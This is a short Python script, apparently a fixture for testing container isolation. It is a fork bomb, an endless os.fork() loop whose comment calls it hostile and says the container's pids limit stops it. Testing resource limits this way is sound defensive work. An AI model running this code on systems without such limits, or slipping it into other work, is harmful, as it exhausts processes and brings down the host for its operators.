import os
# Hostile: forks without end. The target's pids limit stops it inside its own container.
while True:
    try:
        os.fork()
    except OSError:
        pass
